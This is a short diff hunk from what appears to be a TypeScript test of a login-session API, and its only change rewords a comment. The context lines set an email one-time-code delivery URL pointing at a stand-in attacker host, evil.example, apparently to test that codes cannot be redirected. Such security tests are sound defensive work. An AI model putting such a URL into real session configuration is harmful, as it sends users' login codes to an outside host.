@@ -40,7 +40,7 @@ for (const engine of engines) {
     const urlTemplate = 'https://evil.example/?c={{.Code}}'
     const challenges = { otpEmail: { deliveryType: { case: 'sendCode', value: { urlTemplate } } } } as const
 
-    // The client that created the session and sends its token goes on, as for everybody.
+    // The client that created the session and sends its token continues, as for everybody.
     const { sessionId, sessionToken: first } = await begin(chief)
     const checks = { password: { password: PASSWORD } }
     const { sessionToken } = await call(setSession, { sessionId, sessionToken: first, checks }, login)
